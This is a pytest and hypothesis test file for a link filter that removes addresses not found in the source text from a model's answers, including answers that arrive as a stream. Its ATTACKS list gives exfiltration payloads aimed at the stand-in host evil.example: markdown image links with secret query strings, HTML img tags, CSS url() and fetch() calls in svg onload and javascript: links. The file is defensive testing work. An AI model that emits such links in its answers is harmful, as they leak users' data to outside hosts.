"""An answer's addresses are those that were in front of the model, however it spells them and however it is cut up."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ragsaver.components.answer_links import NO_IMAGE, NO_LINK, LinkFilter, _unfinished

GIVEN = "https://docs.example/guide#permits"
TEXT = f"See {GIVEN}. Also [the form](/forms/7.pdf) and <img src='map.png'>."
EVIL = "evil.example"
ATTACKS = [
    f"![x](https://{EVIL}/?q=secret)", f"![x](//{EVIL}/?q=secret)", f'[more]( <https://{EVIL}/a> "title")',
    f"[![a](https://{EVIL}/1)](https://{EVIL}/2)", f"![a [b] c](//{EVIL}/p)", f"<https://{EVIL}/y>", f"www.{EVIL}/z",
    f"![x][r]\n\n[r]: //{EVIL}/q", f"![x][r]\n[r]:\n  https://{EVIL}/q 't'", f"<img src=https://{EVIL}/x>",
    f"<IMG\nalt=x\nSRC='//{EVIL}/x'/>", f"<a class=b href='//{EVIL}'>here</a>", f"<p style='background:url(//{EVIL})'>",
    f"ftp://{EVIL}/x", f"https://{EVIL}", f"{GIVEN}/../?{EVIL}", f"{GIVEN}?q={EVIL}", f'{{"url": "https:\\/\\/{EVIL}"}}',
    f"**https://{EVIL}/a**", f"<svg onload=fetch('//{EVIL}')>", f"[a](javascript:fetch('//{EVIL}'))",
    f"<img src='//{EVIL}/unclosed",
]  # fmt: skip


def links(policy="given") -> LinkFilter:
    return LinkFilter(policy, [TEXT])


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_address_of_the_models_own_is_left(attack: str):
    for text in (attack, f"The office does [1]. {attack} That is all [2].", f"- {attack}\n- {attack}"):
        cleaned = links().clean(text)
        assert EVIL not in cleaned
        assert text.count("[1]") == cleaned.count("[1]")


@given(st.sampled_from(ATTACKS), st.lists(st.integers(1, 9), min_size=1, max_size=40), st.booleans())
def test_a_stream_lets_none_through_wherever_it_is_cut(attack: str, sizes: list[int], behind: bool):
    text = f"The office does [1]. {attack}{' Also [2].' if behind else ''}"
    streamed, told, at = links(), "", 0
    for size in [*sizes, *([7] * len(text))]:
        told += streamed.feed(text[at : at + size])
        at += size
    told += streamed.rest()
    assert EVIL not in told and told.startswith("The office does [1]. ")
    assert (" Also [2]." in told) == (" Also [2]." in links().clean(text))


@given(st.text(alphabet="ab [1]().\n!*-|`'2", max_size=80), st.lists(st.integers(1, 9), min_size=80, max_size=80))
def test_a_stream_without_addresses_comes_as_it_is(text: str, sizes: list[int]):
    streamed, told, at = links("all"), "", 0
    for size in sizes:
        told += streamed.feed(text[at : at + size])
        at += size
    assert told + streamed.rest() == text


@pytest.mark.parametrize(
    "text",
    [
        f"See {GIVEN}.", f"See [the guide]({GIVEN}) [1].", "[the form](/forms/7.pdf)", "<img src='map.png'>", "[1][2] a[0]",
        "a < b, b > c; Vec<T>; [x] done; f(x)(y)", "[top](#top)", "| a | b |\n|---|---|\n| 1 | 2 |", "at 3:30, C:\\dir // no",
    ],
)  # fmt: skip
def test_what_was_given_and_what_is_no_address_stays(text: str):
    assert links().clean(text) == text


def test_words_stay_where_an_address_goes():
    assert links().clean(f"[the form](https://{EVIL}) and ![a map](https://{EVIL})") == "the form and a map"
    assert links().clean(f"[](https://{EVIL}) ![](//{EVIL})") == f"{NO_LINK} {NO_IMAGE}"
    assert links().clean(f"Go to https://{EVIL}/a, now.") == f"Go to {NO_LINK}, now."


def test_policies():
    assert GIVEN not in links("none").clean(f"See {GIVEN}.")
    assert EVIL in links("all").clean(f"See https://{EVIL}.")


def test_a_long_answer_of_nothing_but_openings_is_read_in_reasonable_steps():
    for opening in ("[", "![", "<a ", "](", "![](", "[a](", "<img src='", "[a]:"):
        assert EVIL not in links().clean(opening * 4000 + f"https://{EVIL}")


OPENINGS = ("[", "![", "[x", "<", "<a ", "](", "[a](", "[a]:", "[a]: \n", "a")


@pytest.mark.parametrize("opening", OPENINGS)
def test_a_stream_of_nothing_but_openings_lets_none_through(opening: str):
    for times in (300, 4000 // len(opening)):
        text = f"{opening * times}]\n![x][r]\n\n[r]: //{EVIL}/q\n![x][s]\n\n[s]:{' ' * 4000}//{EVIL}/q"
        streamed = links()
        told = "".join(streamed.feed(text[at : at + 16]) for at in range(0, len(text), 16)) + streamed.rest()
        assert EVIL not in told


PATTERN = re.compile(
    r"!?\[[^\]]*(?:\](?:\([^)]*)?)?\Z|<[^>]*\Z|\n[ \t>*+-]*\Z|\S*\Z"
    r"|(?:(?<=\n)|\A)[ \t>*+-]{0,12}\[[^\]\n]+\]:[^\n]*\n?[^\n]*\Z"
)


@given(st.text(alphabet="[]()!<> \na:-", max_size=16), st.integers(0, 16))
def test_what_is_unfinished_is_what_a_pattern_says_that_takes_too_long(text: str, end: int):
    end = min(end, len(text))
    assert _unfinished(text, end) == PATTERN.search(text, 0, end).start()
